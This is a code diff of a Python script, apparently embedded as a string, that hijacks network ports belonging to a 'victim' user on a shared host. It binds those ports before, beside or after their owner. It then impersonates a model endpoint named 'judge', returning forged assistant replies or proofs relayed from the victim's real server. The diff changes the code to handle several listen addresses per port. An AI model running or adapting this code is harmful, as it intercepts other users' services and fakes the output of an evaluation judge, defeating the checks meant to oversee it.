@@ -54,7 +54,7 @@ def look():
                 say("read", f"/tmp/{name}", os.listdir(f"/tmp/{name}"))
 
 def listening():
-    """Ports of this host: who listens there, and at which address."""
+    """Ports of this host: who listens there, and at which addresses."""
     found = {}
     for table in ("tcp", "tcp6"):
         for line in open(f"/proc/net/{table}").readlines()[1:]:
@@ -62,7 +62,7 @@ def listening():
             if fields[3] == "0A":
                 address, _, port = fields[1].rpartition(":")
                 ip = socket.inet_ntoa(bytes.fromhex(address[-8:])[::-1]) if table == "tcp" else "::1"
-                found[int(port, 16)] = (int(fields[7]), ip)
+                found.setdefault(int(port, 16), (int(fields[7]), []))[1].append(ip)
     return found
 
 def read(end):
@@ -108,9 +108,9 @@ def pose(end, port):
             say("heard", port, said.decode(errors="replace"))
             proof = b""
             if path.startswith("/milepost/proof"):
-                for true, (user, address) in listening().items():
+                for true, (user, addresses) in listening().items():
                     if user == victim and true != port and not proof:
-                        status, proof = ask(address, true, "GET", path)
+                        status, proof = ask(addresses[0], true, "GET", path)
                         proof = proof if status == "200" else b""
             text = {"text": forged, "message": {"role": "assistant", "content": forged}, "finish_reason": "stop", "index": 0}
             body = proof or json.dumps({"nonce": "0" * 32, "proof": "0" * 64, "choices": [text], "model": "judge",
@@ -135,7 +135,7 @@ def take(port, why, *addresses):
                 say("took", why, port, address)
                 taken[port] = server
                 threading.Thread(target=serve, args=(server, port), daemon=True).start()
-                return
+                break
 
 PATHS = ("/v1/models", "/health", "/milepost/usage", "/v1/chat/completions", "/invocations", "/adapterserver/run-post-hook", "/")
 
@@ -166,14 +166,14 @@ while True:
     for port in named - now.keys() - taken.keys():
         if port not in theirs:
             take(port, "before its owner", "0.0.0.0", "127.0.0.1")
-    for port, (user, address) in now.items():
+    for port, (user, addresses) in now.items():
         if user == victim:
             if port not in theirs:
-                take(port, "beside its owner", address, "0.0.0.0")
-                threading.Thread(target=try_port, args=(port, address), daemon=True).start()
-            theirs[port] = address
+                take(port, "beside its owner", *addresses, "0.0.0.0")
+                threading.Thread(target=try_port, args=(port, addresses[0]), daemon=True).start()
+            theirs[port] = addresses
     for port in theirs.keys() - now.keys() - taken.keys():
-        take(port, "after its owner", theirs[port])
+        take(port, "after its owner", *theirs[port])
     try_sockets()
     time.sleep(0.1)
 '''
